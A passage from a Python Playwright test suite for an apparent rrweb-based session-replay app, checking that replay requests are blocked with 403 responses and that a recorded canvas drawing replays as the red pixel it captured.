    tab.wait_for_timeout(1_000)
    given = {url for url, status in answers if status != 403 and "/static/" not in url}
    assert given == set()
    assert len({url for url, status in answers if status == 403}) >= 5
    tab.wrong.clear()


def test_a_canvas_is_shown_as_the_picture_that_was_taken_of_it(tab, app):
    """One red pixel, stretched over the canvas; nothing of rrweb's canvas replay is switched on."""
    png = tab.evaluate(
        """() => { const c = document.createElement("canvas"); c.width = c.height = 1;
        const x = c.getContext("2d"); x.fillStyle = "rgb(255,0,0)"; x.fillRect(0, 0, 1, 1);
        return c.toDataURL("image/png").split(",")[1]; }"""
    )
    assert base64.b64decode(png)
    blob = {"rr_type": "Blob", "data": [{"rr_type": "ArrayBuffer", "base64": png}], "type": "image/png"}
    draw = {"property": "drawImage", "args": [{"rr_type": "ImageBitmap", "args": [blob]}, 0, 0, 20, 20]}
    commands = [{"property": "clearRect", "args": [0, 0, 20, 20]}, draw]
    canvas = element(10, "canvas", width="20", height="20")
    events = [
        *page_load(0, "https://x.example/", "x", canvas),
        event(500, 3, {"source": 9, "id": 10, "type": 0, "commands": commands}),
    ]
    session = add_recording(app, [*events, event(2_000, 5, {"tag": "x", "payload": 0})])
    tab.goto(f"{app.url}/sessions/{session}?t_ms=1000")
    tab.locator(".player[data-state=paused]").wait_for()
    frame = tab.query_selector(".stage iframe").content_frame()
    pixel = "() => [...document.querySelector('canvas').getContext('2d').getImageData(10, 10, 1, 1).data]"
    for _ in range(40):
        if frame.evaluate(pixel) == [255, 0, 0, 255]:
            break
        tab.wait_for_timeout(50)
    assert frame.evaluate(pixel) == [255, 0, 0, 255]
